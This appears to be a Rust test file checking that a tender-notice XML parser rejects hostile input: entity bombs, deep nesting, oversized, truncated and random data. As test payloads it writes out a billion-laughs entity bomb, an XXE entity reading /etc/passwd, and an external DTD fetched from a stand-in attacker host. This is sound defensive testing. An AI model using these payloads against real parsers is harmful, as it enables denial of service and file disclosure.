//! Hostile XML given to the notice reader: entity bombs, external entities, deep nesting,
//! oversized, truncated and random bytes. Each must be an error, quickly, never a panic.

use std::time::{Duration, Instant};

use tenderdesk::ingest::notice;
use tenderdesk::ingest::{ExtractError, Format, Limits};

use super::realdata;

const EFORMS_ROOT: &str =
    r#"<ContractNotice xmlns="urn:oasis:names:specification:ubl:schema:xsd:ContractNotice-2">"#;

#[test]
fn entity_bombs_and_external_entities_are_refused_quickly() {
    let mut bomb = String::from(
        "<?xml version=\"1.0\"?>\n<!DOCTYPE ContractNotice [\n<!ENTITY lol \"lol\">\n",
    );
    bomb.push_str("<!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">\n");
    for i in 2..=9 {
        let prev = format!("&lol{};", i - 1);
        bomb.push_str(&format!("<!ENTITY lol{i} \"{}\">\n", prev.repeat(10)));
    }
    bomb.push_str(&format!("]>\n{EFORMS_ROOT}&lol9;</ContractNotice>"));
    let external = format!(
        "<?xml version=\"1.0\"?><!DOCTYPE ContractNotice [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>{EFORMS_ROOT}&xxe;</ContractNotice>"
    );
    let external_dtd = format!(
        "<!DOCTYPE ContractNotice SYSTEM \"http://attacker.example/evil.dtd\">{EFORMS_ROOT}</ContractNotice>"
    );
    for doc in [bomb, external, external_dtd] {
        // Still recognised from its root, so that the refusal reaches the user.
        assert_eq!(notice::sniff(doc.as_bytes()), Some(Format::Eforms));
        let start = Instant::now();
        let result = notice::parse(doc.as_bytes(), &Limits::default());
        assert!(start.elapsed() < Duration::from_secs(1));
        match result {
            Err(ExtractError::Corrupt(m)) => assert!(m.contains("DOCTYPE"), "{m}"),
            other => panic!("a DOCTYPE must be refused, got {other:?}"),
        }
    }
}

#[test]
fn depth_and_size_are_bounded() {
    let deep = format!(
        "{EFORMS_ROOT}{}{}</ContractNotice>",
        "<x>".repeat(100_000),
        "</x>".repeat(100_000)
    );
    assert!(matches!(
        notice::parse(deep.as_bytes(), &Limits::default()),
        Err(ExtractError::TooLarge(m)) if m.contains("nested deeper than 256")
    ));
    let small = Limits {
        max_piece_bytes: 10,
        ..Limits::default()
    };
    assert!(matches!(
        notice::parse(deep.as_bytes(), &small),
        Err(ExtractError::TooLarge(_))
    ));
}

#[test]
fn other_xml_and_garbage_are_errors_not_panics() {
    let limits = Limits::default();
    assert_eq!(
        notice::parse(b"<invoice/>", &limits).err(),
        Some(ExtractError::Unsupported)
    );
    assert_eq!(notice::sniff(b"<invoice/>"), None);
    // Deterministic pseudo-random bytes, with and without an XML-looking start.
    let mut state: u64 = 0x9E37_79B9_7F4A_7C15;
    for round in 0..200 {
        let mut junk = Vec::new();
        if round % 2 == 0 {
            junk.extend_from_slice(EFORMS_ROOT.as_bytes());
        }
        for _ in 0..(round * 7 % 500) {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            junk.push((state & 0xff) as u8);
        }
        let _ = notice::sniff(&junk);
        assert!(notice::parse(&junk, &limits).is_err());
    }
    // Every real sample, cut short anywhere, is refused rather than half-read or panicking.
    let Some(dir) = realdata() else { return };
    for rel in [
        "ted-eforms/cn_24_open.xml",
        "boamp/test-pub-5.xml",
        "espd/ESPD-Request.xml",
    ] {
        let data = std::fs::read(dir.join(rel)).expect("sample");
        for cut in [
            1,
            10,
            100,
            1000,
            data.len() / 3,
            data.len() / 2,
            data.len() - 20,
        ] {
            let truncated = &data[..cut.min(data.len())];
            let _ = notice::sniff(truncated);
            assert!(
                notice::parse(truncated, &limits).is_err(),
                "{rel} cut at {cut}"
            );
        }
    }
}
